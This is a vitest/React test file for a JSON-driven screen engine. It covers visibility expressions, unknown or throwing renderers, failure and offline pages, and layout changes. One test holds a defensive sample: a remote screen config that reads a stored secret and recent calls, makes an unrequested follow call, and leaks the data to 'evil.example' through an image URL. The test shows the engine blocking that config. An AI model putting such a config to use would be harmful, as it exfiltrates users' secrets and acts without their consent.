import { act, render, screen } from '@testing-library/react'
import { describe, expect, it, vi } from 'vitest'
import type { LoadedScreen, ScreenEntry } from '../loaded-screen'
import { checkRemoteScreen } from '../remote/check-remote-screen'
import { registerTestRenderers } from '../test-renderers'
import { createTestEngine, renderNodes, renderScreen } from '../testing'
import type { Screen } from '../types'
import { EngineProvider } from './EngineProvider'
import { ScreenHost } from './ScreenHost'
import { ScreenLoader } from './ScreenLoader'
import { ScreenView } from './ScreenView'

const config: Screen = {
  $schema: '../../schemas/screen.schema.json',
  id: 't/view',
  routes: [{ path: '/t', auth: 'none' }],
  title: '{{ query.title || "暂无数据" }}',
  body: [
    { type: 'text', text: '建设中', visible: '{{ !query.pageName }}' },
    { type: 'text', text: '商品补货中', visible: "{{ query.pageName === '健康屋' }}" },
  ],
}

const engineWithTestRenderers = (dev: boolean) => createTestEngine({ dev, setup: registerTestRenderers })

describe('nodes', () => {
  it('visible expressions choose what shows', () => {
    renderScreen(config, { query: {} })
    expect(screen.getByRole('heading').textContent).toBe('暂无数据')
    expect(screen.queryByText('建设中')).toBeTruthy()
    expect(screen.queryByText('商品补货中')).toBeNull()
  })

  it('an unknown node type shows a visible box in development', () => {
    const engine = engineWithTestRenderers(true)
    renderNodes([{ type: 'rating' }, { type: 'text', text: 'still here' }], { engine })
    expect(screen.getByRole('alert').textContent).toBe('未知的节点类型: rating')
    expect(screen.getByText('still here')).toBeTruthy()
  })

  it('an unknown node type is an empty box and a report in production', () => {
    const engine = engineWithTestRenderers(false)
    const { container } = renderNodes([{ type: 'rating' }, { type: 'text', text: 'still here' }], { engine })
    expect(screen.queryByRole('alert')).toBeNull()
    expect(container.querySelector('[data-unknown-node="rating"]')?.textContent).toBe('')
    expect(screen.getByText('still here')).toBeTruthy()
    expect(engine.recorded.reports.map((r) => (r.error as Error).message)).toEqual(['unknown node type "rating"'])
  })

  it('a throwing renderer costs only its own box', () => {
    vi.spyOn(console, 'error').mockImplementation(() => undefined)
    const engine = engineWithTestRenderers(false)
    renderNodes(
      [
        { type: 'boom', message: 'kaput' },
        { type: 'text', text: 'neighbour' },
      ],
      { engine },
    )
    expect(screen.getByText('neighbour')).toBeTruthy()
    expect(engine.recorded.reports.some((r) => (r.error as Error).message === 'kaput')).toBe(true)
  })
})

describe('loading screens', () => {
  const broken: LoadedScreen = {
    file: 'screens/t/broken.json',
    config: null,
    problems: [{ file: 'screens/t/broken.json', path: '/body/0/type', message: 'unknown node type "txt"' }],
  }

  it('a bad config shows its problems in development', async () => {
    const engine = engineWithTestRenderers(true)
    render(
      <EngineProvider engine={engine}>
        <ScreenHost loaded={broken} />
      </EngineProvider>,
    )
    // Its code comes when it is needed (ScreenHost.tsx).
    expect((await screen.findByRole('alert')).textContent).toContain('screens/t/broken.json (/body/0/type) unknown node type "txt"')
  })

  it('a bad config shows the failure page in production, reported, and refresh reloads', () => {
    const engine = engineWithTestRenderers(false)
    render(
      <EngineProvider engine={engine}>
        <ScreenHost loaded={broken} />
      </EngineProvider>,
    )
    expect(screen.getByText('页面暂时无法访问')).toBeTruthy()
    screen.getByText('刷新').click()
    expect(engine.recorded.pageReloads).toBe(1)
    expect(engine.recorded.reports[0].context).toEqual({ problems: ['screens/t/broken.json (/body/0/type) unknown node type "txt"'] })
  })

  it('a screen from outside the build refused for its capabilities names them in production, not the failure page', async () => {
    const engine = engineWithTestRenderers(false)
    // Finding 1 of issue 33: the last calls and a stored key, sent to another host in a picture's address.
    const prize = {
      $schema: '../../schemas/screen.schema.json',
      id: 'activity/prize',
      routes: [{ path: '/activity/prize', auth: 'none' }],
      title: '抽奖活动',
      data: { calls: { inspect: 'calls' }, secret: { storage: 'SIGN_SECRET' } },
      enter: [{ action: 'call', call: 'homepage.follow', args: { accountCode: 'evil', follow: true } }],
      body: [{ type: 'image', src: 'https://evil.example/p.png?d={{ json(data) }}', alt: '奖品' }],
    }
    const loaded = await checkRemoteScreen(prize, 'remote:prize', engine, 'https://app.example.cn')
    render(
      <EngineProvider engine={engine}>
        <ScreenHost loaded={loaded} />
      </EngineProvider>,
    )
    const page = await screen.findByRole('alert')
    expect(page.textContent).toContain('页面已被拦截')
    expect([...page.querySelectorAll('li')].map((li) => li.textContent)).toEqual([
      '读取本机保存的数据或最近的请求',
      '打开时未经点击替您修改数据',
      '从其他网站加载图片',
    ])
    expect(screen.queryByText('页面暂时无法访问')).toBeNull()
    expect(screen.queryByText('奖品')).toBeNull()
    screen.getByRole('button', { name: '返回' }).click()
    expect(engine.recorded.backs).toBe(1)
    expect(engine.recorded.calls).toEqual([])
    expect(engine.recorded.reports[0].context).toEqual({ problems: loaded.problems.map((p) => `remote:prize (${p.path}) ${p.message}`) })
  })

  it('a screen that throws while rendering shows the failure page', () => {
    vi.spyOn(console, 'error').mockImplementation(() => undefined)
    const engine = createTestEngine({ dev: false })
    // No `page` renderer registered at all, and one that throws: the screen boundary catches it.
    engine.registerRenderer({
      type: 'page',
      component: () => {
        throw new Error('page broke')
      },
    })
    render(
      <EngineProvider engine={engine}>
        <ScreenHost loaded={{ file: 'x.json', config, problems: [] }} />
      </EngineProvider>,
    )
    expect(screen.getByText('页面暂时无法访问')).toBeTruthy()
  })

  it('a chunk that cannot be fetched shows the failure page, or the offline page without network', async () => {
    vi.spyOn(console, 'error').mockImplementation(() => undefined)
    const entry = (file: string): ScreenEntry => ({
      id: file,
      routes: [],
      load: () => Promise.reject(new Error('Failed to fetch dynamically imported module')),
    })
    const engine = engineWithTestRenderers(false)
    const first = render(
      <EngineProvider engine={engine}>
        <ScreenLoader entry={entry('a.json')} />
      </EngineProvider>,
    )
    expect(await screen.findByText('页面暂时无法访问')).toBeTruthy()
    first.unmount()
    vi.spyOn(navigator, 'onLine', 'get').mockReturnValue(false)
    render(
      <EngineProvider engine={engine}>
        <ScreenLoader entry={entry('b.json')} />
      </EngineProvider>,
    )
    expect(await screen.findByText('当前网络不可用,请检查网络后')).toBeTruthy()
  })
})

describe('client values', () => {
  it('a screen redraws what reads `client` when the host says it changed (a rotation to the large layout)', async () => {
    let client = { large: false }
    const listeners = new Set<() => void>()
    const engine = createTestEngine({ setup: registerTestRenderers })
    engine.services.client = () => client
    engine.services.watchClient = (listener) => {
      listeners.add(listener)
      return () => listeners.delete(listener)
    }
    const layoutScreen: Screen = { ...config, title: 't', body: [{ type: 'text', text: "{{ client.large ? '宽屏' : '窄屏' }}" }] }
    const { unmount } = render(
      <EngineProvider engine={engine}>
        <ScreenView config={layoutScreen} />
      </EngineProvider>,
    )
    expect(screen.getByText('窄屏')).toBeTruthy()
    client = { large: true }
    act(() => listeners.forEach((l) => l()))
    expect(await screen.findByText('宽屏')).toBeTruthy()
    unmount()
    expect(listeners.size).toBe(0)
  })
})
